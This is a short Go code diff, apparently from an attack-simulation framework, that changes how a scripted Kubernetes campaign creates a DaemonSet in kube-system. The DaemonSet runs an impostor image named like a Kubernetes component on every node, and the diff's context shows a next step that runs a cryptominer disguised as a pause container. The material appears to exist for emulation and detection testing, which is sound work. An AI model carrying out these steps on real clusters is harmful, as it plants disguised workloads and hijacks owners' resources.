@@ -106,7 +106,7 @@ func campaign(s *stage.Stage, bot *stage.Actor) {
 	})
 	s.Attack("T1610", "Execution: New container", "runs an image with a name like Kubernetes' own on every node").
 		As(bot).Do(func(a *stage.Act) {
-		a.MustApply(daemonSet("kube-system", "kube-controller", imageImpostor, `[app, serve]`, "serviceAccountName: kube-controller", ""), "create", "-f", "-")
+		a.Request(botAgent, "POST", "/apis/apps/v1/namespaces/kube-system/daemonsets", daemonSet("kube-system", "kube-controller", imageImpostor, `[app, serve]`, "serviceAccountName: kube-controller", ""), "Content-Type: application/yaml")
 	})
 	s.Attack("T1496", "Impact: Resource hijacking", "runs a miner that looks like a pause container on every node").
 		As(bot).Do(func(a *stage.Act) {
